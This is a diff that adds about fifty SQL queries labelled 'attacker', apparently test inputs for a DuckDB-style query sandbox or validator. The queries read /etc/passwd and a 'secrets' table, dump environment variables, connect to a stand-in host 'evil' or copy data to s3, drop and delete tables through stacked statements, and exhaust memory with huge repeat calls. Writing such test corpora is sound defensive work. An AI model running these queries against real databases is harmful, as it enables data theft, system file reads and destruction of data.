@@ -306,3 +306,103 @@ SELECT * FROM orders, LATERAL secrets
 SELECT * FROM repeat_row(1, num_rows = 1000000000)
 -- [with name whose letters only look alike]
 WITH "staKes" AS (SELECT 1 AS a) SELECT * FROM stakes
+-- [attacker 000]
+SELECT * FROM read_csv('/etc/passwd')
+-- [attacker 004]
+SELECT * FROM read_text('/etc/passwd')
+-- [attacker 008]
+SELECT * FROM "file.csv"
+-- [attacker 012]
+SELECT * FROM parquet_metadata('x.parquet')
+-- [attacker 016]
+SELECT json_execute_serialized_sql(json_serialize_sql('select * from secrets'))
+-- [attacker 020]
+SELECT * FROM pragma_table_info('secrets')
+-- [attacker 024]
+SELECT * FROM information_schema.tables
+-- [attacker 028]
+SELECT current_setting('secret_directory')
+-- [attacker 032]
+SET VARIABLE x = 1
+-- [attacker 036]
+INSTALL httpfs
+-- [attacker 040]
+EXPORT DATABASE '/tmp/x'
+-- [attacker 044]
+DELETE FROM orders
+-- [attacker 048]
+SELECT * FROM other.orders
+-- [attacker 052]
+FROM secrets
+-- [attacker 056]
+PIVOT secrets ON a USING count(*)
+-- [attacker 060]
+SELECT * FROM orders POSITIONAL JOIN secrets
+-- [attacker 064]
+SELECT [x FOR x IN (SELECT list(password) FROM secrets)]
+-- [attacker 068]
+SELECT repeat('x', 10000000000)
+-- [attacker 072]
+SELECT * FROM repeat(1, 100000000000)
+-- [attacker 076]
+SELECT * FROM orders; DROP TABLE orders
+-- [attacker 080]
+SELECT * FROM histogram('secrets', x)
+-- [attacker 084]
+SELECT * FROM postgres_scan('host=evil', 'public', 't')
+-- [attacker 088]
+SELECT * FROM arrow_scan(1, 2, 3)
+-- [attacker 092]
+SELECT * FROM test_all_types()
+-- [attacker 096]
+EXPLAIN ANALYZE SELECT * FROM orders
+-- [attacker 100]
+SHOW ALL TABLES
+-- [attacker 104]
+SELECT * FROM orders AT (VERSION => 1)
+-- [attacker 108]
+SELECT * FROM (SUMMARIZE secrets)
+-- [attacker 112]
+IMPORT DATABASE 'x'
+-- [attacker 116]
+DESCRIBE orders
+-- [attacker 120]
+SELECT * FROM 'https://x/y.csv' t
+-- [attacker 124]
+SELECT * FROM duckdb_columns
+-- [attacker 128]
+SELECT * FROM seq_scan('secrets')
+-- [attacker 132]
+SELECT * FROM json_execute_serialized_sql('x'::BLOB)
+-- [attacker 136]
+SELECT getenv('HOME'), set_config('a', 'b'), sleep_ms(1000)
+-- [attacker 140]
+FROM query_table('orders')
+-- [attacker 144]
+SELECT * FROM read_ndjson_objects('x')
+-- [attacker 148]
+SELECT * FROM python_map_function()
+-- [attacker 152]
+SELECT [1].array_resize(1000000000)
+-- [attacker 156]
+SELECT lpad('a', 100000000, 'b'), rpad('a', 100000000, 'b')
+-- [attacker 160]
+SELECT meta -> (SELECT max(s) FROM secrets) FROM orders
+-- [attacker 164]
+PIVOT orders ON status IN (SELECT s FROM secrets) USING count(*)
+-- [attacker 168]
+SELECT * FROM (VALUES ((SELECT s FROM secrets))) t
+-- [attacker 172]
+SELECT struct_pack(s) FROM secrets
+-- [attacker 176]
+SELECT * FROM memory.main.secrets
+-- [attacker 180]
+SELECT * FROM orders QUALIFY row_number() OVER (ORDER BY (SELECT max(id) FROM secrets)) = 1
+-- [attacker 184]
+SELECT list_transform([1], lambda x: (SELECT max(s) FROM secrets))
+-- [attacker 188]
+SELECT $x
+-- [attacker 192]
+SELECT * FROM orders WHERE nextval('s') > 0
+-- [attacker 196]
+COPY (FROM orders) TO 's3://x'
